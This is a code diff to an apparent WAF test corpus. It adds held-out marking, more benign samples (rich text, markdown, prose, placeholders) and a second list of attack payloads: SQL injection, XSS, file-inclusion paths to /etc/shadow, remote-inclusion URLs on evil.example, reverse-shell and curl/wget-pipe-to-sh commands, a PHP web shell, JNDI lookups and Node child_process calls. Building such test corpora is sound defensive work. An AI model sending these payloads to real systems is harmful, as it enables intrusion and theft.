@@ -5,7 +5,11 @@
 import type { Sample } from './waf-corpus.js';
 
 export type CrsFamily = 'sqli' | 'xss' | 'lfi' | 'rfi' | 'rce' | 'php' | 'java' | 'nodejs' | 'session-fixation';
-export interface CrsSample extends Omit<Sample, 'family'> { family: CrsFamily | 'benign'; category?: string }
+export interface CrsSample extends Omit<Sample, 'family'> { family: CrsFamily | 'benign'; category?: string; heldOut?: boolean }
+
+/** Where Strata's own grammars travel: a records list query (REST) and a Connect List message (JSON). */
+export const RECORDS_LIST = '/api/collections/posts/records';
+export const CONNECT_LIST = '/strata.posts.RecordService/List';
 
 const BASE: Record<CrsFamily, string[]> = {
   sqli: [") UNION ALL SELECT NULL,NULL,NULL--", "foo')waitfor delay'5:0:20'--", 'sELecT slEep (10 +6)', "1' union select password from users--", "' or '1'='1", "1 and 1=1",
@@ -37,9 +41,39 @@ const EVASIONS: Array<[string, (v: string) => string]> = [
 /** Where a value travels: the samples' `where` (query, JSON body, form, header, path, multipart file name, XML). */
 const WHERE: Sample['where'][] = ['query', 'json', 'form', 'header', 'xml', 'path'];
 
+/**
+ * Added by the third WAF pass (issue 14), written before their first run and appended after the
+ * first list so no earlier sample moves (held-out positions stay): more unseen payloads per
+ * family, through the same evasions and locations.
+ */
+const BASE2: Record<CrsFamily, string[]> = {
+  sqli: ["1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--", "' OR 1=1 LIMIT 1 OFFSET 0--",
+    '1 AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),1,1))>100', "';SELECT pg_sleep(7)--", "1'||(SELECT CHR(65))||'", "' UNION SELECT @@version,NULL#", "admin' AND '1'='1' /*",
+    '-1 OR 1 IN (SELECT TOP 1 name FROM sysobjects)'],
+  xss: ['<svg><script>alert(1)</script></svg>', '<img src=1 onerror="eval(atob(\'YWxlcnQoMSk=\'))">', '<a href="javascript&colon;alert(1)">x</a>', '<input onfocus=alert(1) autofocus>',
+    '<x contenteditable onblur=alert(1)>lose focus', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', '"><img src=x:x onerror=alert(1)>', "<style>@import 'javascript:alert(1)';</style>"],
+  lfi: ['../../../../etc/group', '/etc/gshadow', '..\\..\\..\\boot.ini', '....\\/....\\/etc/passwd', 'tail -n 20 /etc/shadow', '/proc/self/cmdline', '..%2f..%2f..%2fetc%2fhosts', 'file:///c:/windows/win.ini'],
+  rfi: ['http://evil.example/shell.txt', 'https://attacker.example/c99.php%00', 'ftp://evil.example/x.txt', "require_once('https://evil.example/inc.php')", 'http://evil.example/x.txt#', '//evil.example/shell.txt?'],
+  rce: ['; nc -e /bin/sh 10.0.0.1 4444', '| /bin/busybox telnetd -l /bin/sh', '$(curl -s http://evil.example/x)', '&& rm -rf /tmp/x', '\ncat /etc/passwd', "; python -c 'import os;os.system(\"id\")'",
+    '`wget evil.example -O-|sh`', '|| echo pwned > /tmp/p'],
+  php: ["<?php echo shell_exec($_GET['c']); ?>", "system('id');", "assert($_REQUEST['x'])", 'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+', 'a:1:{i:0;O:8:"Exploit":0:{}}',
+    "preg_replace('/.*/e', $_GET['c'], '')"],
+  java: ['${jndi:dns://evil.example/a}', '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://evil.example/a}', "#{T(java.lang.Runtime).getRuntime().exec('id')}",
+    "%{(#rt=@java.lang.Runtime@getRuntime().exec('id'))}", 'java.lang.ProcessBuilder', 'class.classLoader.URLs[0]=http://evil.example'],
+  nodejs: ["require('child_process').execSync('id')", "global.process.mainModule.constructor._load('child_process')", "new Function('return process')()"],
+  'session-fixation': ['<meta http-equiv="set-cookie" content="PHPSESSID=fixed">', "document.cookie='sessionid=fixed;path=/'"],
+};
+
+/** How many attack samples the first list makes (the third pass's samples follow). */
+export const FIRST_CRS_ATTACKS = 536;
+
 export function crsAttacks(): CrsSample[] {
+  return mark([...generate(BASE), ...generate(BASE2)]);
+}
+
+function generate(base: Record<CrsFamily, string[]>): CrsSample[] {
   const out: CrsSample[] = [];
-  for (const [family, payloads] of Object.entries(BASE) as Array<[CrsFamily, string[]]>) {
+  for (const [family, payloads] of Object.entries(base) as Array<[CrsFamily, string[]]>) {
     payloads.forEach((p, i) => {
       for (const [variant, f] of EVASIONS) {
         const v = f(p);
@@ -84,18 +118,61 @@ const BENIGN: Record<string, string[]> = {
     'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4='],
   i18n: ['日本語のテキストです', 'Привет, мир! Как дела?', 'مرحبا بالعالم', 'Ελληνικά κείμενο', '中文测试：选择、联合、删除', 'עברית טקסט', 'Tiếng Việt có dấu', '😀 emoji 🚀 text'],
   'random-text': [prose(1, 200), prose(2, 800), prose(3, 1500), prose(4, 3000), prose(5, 400), prose(6, 2200)],
+  // added after the first runs (appended, so earlier samples keep their held-out positions)
+  'full-text': ['title @@ "\'"', 'title @@ "it\'s"', 'body @@ "rock \'n\' roll" && price > 3', 'title @@ "select * from"', 'title @@ "<b>"', 'title @@ "C#"', 'title @@ "O\'Brien"', 'title @@ "\" or \""'],
+  // issue 23 item 8: random text (letters, digits, punctuation, spaces) up to 3,000 characters
+  'random-chars': Array.from({ length: 24 }, (_, i) => randomText(100 + i, 50 + ((i * 977) % 2950))),
+  // third pass (appended categories; written before their first run)
+  'rich-text-2': ['<p>See the <a href="/docs/getting-started">guide</a> and <a href="https://example.org/faq#q2" target="_blank" rel="noopener">FAQ</a>.</p>',
+    '<figure><img src="https://images.example.net/2026/05/cat.jpg" alt="Our cat, asleep" width="640" height="480"><figcaption>Asleep again</figcaption></figure>',
+    '<table><thead><tr><th>Plan</th><th>Price</th></tr></thead><tbody><tr><td>Basic</td><td>$5</td></tr></tbody></table>', '<h3>Release notes</h3><ol><li>Faster <code>select</code> boxes</li><li>Fixed the <em>union</em> filter</li></ol>',
+    '<p>Email <a href="mailto:support@example.com">support</a> or call us.</p><br><p>Thanks!</p>', '<blockquote cite="https://example.com/quote"><p>Stay hungry.</p></blockquote>',
+    '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt="dot"> a pixel</p>',
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="currentColor"/></svg>'],
+  'markdown-2': ['## Setup\n\n```bash\ngit clone https://github.com/example/app.git\ncd app && npm ci\n```', 'Run the migration:\n\n```sql\nALTER TABLE posts ADD COLUMN slug TEXT;\nUPDATE posts SET slug = lower(title);\n```',
+    '1. Open a terminal\n2. Type `ls -la` and press Enter\n3. Check the output', '```sh\nexport PATH=$HOME/.local/bin:$PATH\necho $PATH\n```', '> **Note**: use `SELECT ... FOR UPDATE` when you read and then write.',
+    '### Query\n\n```sql\nSELECT u.name, count(*) FROM users u JOIN orders o ON o.user_id = u.id GROUP BY u.name HAVING count(*) > 5;\n```'],
+  'prose-2': ['If you want to drop me a line, select a time that suits you and I will update the calendar.', 'The union of the two sets is where the interesting cases are, as the table shows.',
+    'Please echo back what you heard, then sleep on it and ping me tomorrow.', 'We ran a time trial, cat naps included, and the kids loved the whole thing.',
+    'Our sales team will insert the new values into the sheet and delete the old rows by Friday.', 'She said: "it\'s the order by which the group was chosen that matters, not the count."'],
+  placeholders: ['Hello ${firstName}, your order ${orderId} has shipped.', 'Dear {{ user.name }}, welcome aboard!', 'Use $HOME/.config/app.yaml for settings', 'Price: ${{price}} per month',
+    'Template: `Hi ${name}` renders the name', 'Set PATH=${PATH}:/opt/tools in your profile'],
+  'local-urls': ['Open http://localhost:3000/dashboard to see it', 'http://127.0.0.1:5173/', 'The dev server runs at http://localhost:8080/api', 'Callback set to http://localhost:4200/login/callback'],
 };
+
+/** Random printable text (deterministic): words of random letters with digits and punctuation between. */
+function randomText(seed: number, len: number): string {
+  const alphabet = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
+  const punct = [' ', ' ', ' ', ' ', ', ', '. ', '; ', ' - ', ' & ', ' | ', "'", '"', '(', ') ', '/', ': ', '? ', '! ', '\n', '#', '=', '<', '>', '*', '+'];
+  let s = '';
+  let x = seed;
+  const next = () => (x = (x * 1103515245 + 12345) % 2147483648);
+  while (s.length < len) {
+    const n = 1 + (next() % 9);
+    for (let k = 0; k < n; k++) s += alphabet[next() % alphabet.length];
+    s += punct[next() % punct.length];
+  }
+  return s.slice(0, len);
+}
 
 export function crsBenign(): CrsSample[] {
   const out: CrsSample[] = [];
   for (const [category, values] of Object.entries(BENIGN)) {
     values.forEach((v, i) => {
       const where: Sample['where'] = i % 2 === 0 ? 'json' : 'query';
-      const name = category === 'oauth-redirect' ? 'redirectURL' : category === 'strata-filter' ? 'filter' : category === 'search' ? 'q' : 'comment';
-      out.push({ family: 'benign', category, variant: category, where, name, value: v });
+      const name = category === 'oauth-redirect' ? 'redirectURL' : category === 'strata-filter' || category === 'full-text' ? 'filter' : category === 'search' ? 'q' : 'comment';
+      // Strata's filter language is sent where Strata reads it: the records list, over REST and Connect
+      const path = category === 'strata-filter' || category === 'full-text' ? (where === 'query' ? RECORDS_LIST : CONNECT_LIST) : undefined;
+      out.push({ family: 'benign', category, variant: category, where, name, value: v, ...(path ? { path } : {}) });
     });
   }
-  return out;
+  return mark(out);
+}
+
+/** Marks every fourth sample as held out (for the anchor harness, which reads `heldOut`). */
+function mark(list: CrsSample[]): CrsSample[] {
+  list.forEach((s, i) => { s.heldOut = i % 4 === 3; });
+  return list;
 }
 
 /** Every fourth sample is held out (never tuned against). */
